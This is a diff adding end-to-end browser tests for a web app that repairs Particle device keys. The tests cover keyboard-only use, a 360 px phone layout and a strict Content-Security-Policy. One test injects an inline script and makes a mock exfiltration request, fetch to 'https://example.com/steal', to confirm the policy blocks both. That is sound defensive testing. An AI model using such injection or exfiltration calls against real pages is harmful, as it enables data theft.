@@ -1,0 +1,209 @@
+// End-to-end: the page is usable with the keyboard alone and on a 360 px phone screen, it carries a
+// strict Content-Security-Policy that the browser enforces, and it talks to nobody but its own origin
+// and the cloud. Screenshots: target/e2e/screenshots/4x-*.png.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { serveDist, launchBrowser, simCloud, dist } from './harness.mjs';
+import { KeyRescue, DEMO } from './keyrescue.mjs';
+
+// A whole repair against a real loopback server; generous, and never a timing assertion.
+const LONG = { timeout: 180_000 };
+
+let server;
+let cloud;
+let browser;
+
+before(async () => {
+  server = await serveDist();
+  cloud = await simCloud();
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await cloud?.close();
+  await server?.close();
+});
+
+test('keyboard only: sign in, connect, repair and verify with Tab, Enter and Space', LONG, async () => {
+  const kr = await KeyRescue.open(browser, server, { name: '40-keyboard-only', api: cloud.url });
+  const keys = kr.page.keyboard;
+  await kr.visible('signin');
+
+  await kr.tabTo('email');
+  assert.ok(await kr.focusIsVisible(), 'the focused field shows a focus ring');
+  await keys.type(DEMO.email);
+  await kr.tabTo('password');
+  await keys.type(DEMO.password);
+  await kr.tabTo('signin-submit');
+  assert.ok(await kr.focusIsVisible(), 'the focused button shows a focus ring');
+  await kr.shot('sign-in-focused');
+  await keys.press('Enter');
+  await kr.expectSignedIn(DEMO.email);
+  await kr.shot('signed-in');
+
+  await kr.tabTo('connect');
+  assert.ok(await kr.focusIsVisible(), 'Connect shows a focus ring');
+  await keys.press('Enter');
+  await kr.waitForDiagnosis();
+  await kr.waitForPlan();
+  await kr.shot('plan');
+
+  await kr.tabTo('repair');
+  assert.ok(await kr.focusIsVisible(), 'Repair shows a focus ring');
+  await kr.shot('repair-focused');
+  await keys.press('Space');
+  await kr.waitForOnline();
+  await kr.shot('online');
+
+  // The next repair is one key press away.
+  await kr.tabTo('repair-another');
+  await kr.expectClean();
+  await kr.close();
+});
+
+test('keyboard only: the LED decoder and the fault picker work without a mouse', LONG, async () => {
+  const kr = await KeyRescue.open(browser, server, { name: '41-keyboard-controls', api: cloud.url });
+  await kr.visible('led-decoder');
+  const colour = kr.el('led-decoder').getByLabel('Colour');
+  const blinks = kr.el('led-decoder').getByLabel('Blinks');
+  assert.equal(await colour.count(), 1, 'the decoder has a "Colour" input');
+  assert.equal(await blinks.count(), 1, 'the decoder has a "Blinks" input');
+  const before = await kr.text('led-verdict');
+  const isFocused = (loc) => loc.evaluate((el) => el === document.activeElement);
+  // Reach the Colour input with Tab and change it with an arrow key, then type a blink count.
+  for (let i = 0; i < 80 && !(await isFocused(colour)); i++) await kr.page.keyboard.press('Tab');
+  assert.ok(await isFocused(colour), 'Tab reaches the Colour input');
+  await kr.page.keyboard.press('ArrowDown');
+  for (let i = 0; i < 10 && !(await isFocused(blinks)); i++) await kr.page.keyboard.press('Tab');
+  assert.ok(await isFocused(blinks), 'Tab goes on to the Blinks input');
+  await kr.page.keyboard.press('Control+A');
+  await kr.page.keyboard.type('2');
+  await kr.page.waitForFunction(
+    (b) => document.querySelector('[data-testid="led-verdict"]')?.textContent !== b,
+    before,
+    { timeout: 5_000 },
+  ).catch(() => {});
+  const after = await kr.text('led-verdict');
+  assert.ok(after.trim(), 'the decoder gives a verdict');
+  assert.notEqual(after, before, 'the verdict follows what was entered with the keyboard');
+  await kr.shot('decoder');
+
+  await kr.tabTo('sim-fault');
+  await kr.page.keyboard.press('ArrowDown');
+  assert.equal(await kr.el('sim-fault').inputValue(), 'corrupt-key', 'ArrowDown picks the next simulated problem');
+  await kr.shot('fault-picked');
+  await kr.expectClean();
+  await kr.close();
+});
+
+test('a 360 px wide phone screen: the whole repair fits without sideways scrolling', LONG, async () => {
+  const kr = await KeyRescue.open(browser, server, {
+    name: '42-narrow-360',
+    api: cloud.url,
+    viewport: { width: 360, height: 740 },
+  });
+  const fits = async (step) => assert.ok((await kr.horizontalOverflow()) <= 0, `${step}: the page is ${await kr.horizontalOverflow()} px wider than the screen`);
+  await fits('landing');
+  await kr.shot('landing');
+  await kr.signIn(DEMO);
+  await kr.expectSignedIn(DEMO.email);
+  await fits('signed in');
+  await kr.connect();
+  await kr.waitForDiagnosis();
+  await kr.waitForPlan();
+  await fits('plan');
+  await kr.shot('plan');
+  // Touch targets stay at least 44 px high on a phone.
+  const small = await kr.page.evaluate(() =>
+    [...document.querySelectorAll('button')]
+      .filter((b) => b.offsetParent !== null && b.getBoundingClientRect().height < 44)
+      .map((b) => b.textContent.trim()),
+  );
+  assert.deepEqual(small, [], 'every visible button is at least 44 px high');
+  await kr.repair();
+  await kr.waitForOnline();
+  await fits('verified');
+  await kr.shot('online');
+  await kr.expectClean();
+  await kr.close();
+});
+
+test('the built page carries a strict Content-Security-Policy in a meta tag', LONG, async () => {
+  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
+  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
+  assert.ok(meta, 'index.html has a CSP meta tag');
+  const csp = Object.fromEntries(
+    meta[1].split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
+  );
+  assert.deepEqual(csp['default-src'], ["'none'"]);
+  assert.ok(csp['script-src'].includes("'self'") && csp['script-src'].includes("'wasm-unsafe-eval'"));
+  assert.ok(!meta[1].includes("'unsafe-inline'") && !meta[1].includes("'unsafe-eval'"), 'no unsafe-inline or unsafe-eval');
+  assert.deepEqual(csp['style-src'], ["'self'"]);
+  assert.deepEqual(csp['base-uri'], ["'none'"]);
+  assert.deepEqual(csp['form-action'], ["'none'"]);
+  assert.ok(csp['connect-src'].includes('https://api.particle.io'));
+  assert.ok(csp['connect-src'].every((s) => ["'self'", 'https://api.particle.io', 'http://127.0.0.1:*', 'http://localhost:*'].includes(s)), `connect-src ${csp['connect-src']}`);
+  // Every inline script is allowed by its hash, and nothing else is inline.
+  const inline = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter((m) => !/\bsrc=/.test(m[1]));
+  assert.ok(inline.length >= 1, "Trunk's loader is inline");
+  const { createHash } = await import('node:crypto');
+  for (const [, , body] of inline) {
+    const hash = `'sha256-${createHash('sha256').update(body, 'utf8').digest('base64')}'`;
+    assert.ok(csp['script-src'].includes(hash), `the inline script's hash ${hash} is allowed`);
+  }
+  assert.doesNotMatch(html, /\son[a-z]+=/i, 'no inline event handlers');
+});
+
+test('the browser enforces the policy: injected inline code and requests to other hosts are blocked', LONG, async () => {
+  const kr = await KeyRescue.open(browser, server, { name: '43-csp-enforced', api: cloud.url });
+  await kr.visible('browser-support');
+  const csp = await kr.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  assert.match(csp, /default-src 'none'/);
+  await kr.expectClean(); // the app itself runs without a single violation
+
+  const outcome = await kr.page.evaluate(async () => {
+    window.__injected = false;
+    const s = document.createElement('script');
+    s.textContent = 'window.__injected = true';
+    document.body.append(s);
+    let fetched;
+    try {
+      await fetch('https://example.com/steal');
+      fetched = 'sent';
+    } catch {
+      fetched = 'blocked';
+    }
+    await new Promise((r) => setTimeout(r, 100));
+    return { injected: window.__injected, fetched };
+  });
+  assert.equal(outcome.injected, false, 'an injected inline script does not run');
+  assert.equal(outcome.fetched, 'blocked', 'a request to another host is blocked');
+  const violations = await kr.cspViolations();
+  assert.ok(violations.some((v) => v.startsWith('script-src')), `script violation reported: ${violations}`);
+  assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('example.com')), `connect violation reported: ${violations}`);
+  await kr.close();
+});
+
+test('the page requests nothing from any host but its own origin and the loopback cloud', LONG, async () => {
+  const kr = await KeyRescue.open(browser, server, { name: '44-own-origin-only', api: cloud.url });
+  await kr.signIn(DEMO);
+  await kr.expectSignedIn(DEMO.email);
+  await kr.connect();
+  await kr.waitForPlan();
+  await kr.shot('plan');
+  assert.ok(kr.requests.some((u) => u.startsWith(cloud.url)), 'the cloud was asked');
+  assert.deepEqual(kr.foreignRequests([cloud.url]), []);
+  // Without ?api= the page would use Particle's cloud and says so: no test-cloud banner.
+  const prod = await KeyRescue.open(browser, server, { name: '45-production-cloud' });
+  await prod.visible('browser-support');
+  assert.equal(await prod.el('test-cloud-banner').count(), 0, 'no test-cloud banner for Particle\'s cloud');
+  assert.deepEqual(prod.foreignRequests(), [], 'nothing is requested before the user acts');
+  await prod.shot('landing');
+  await prod.expectClean();
+  await prod.close();
+  await kr.expectClean();
+  await kr.close();
+});
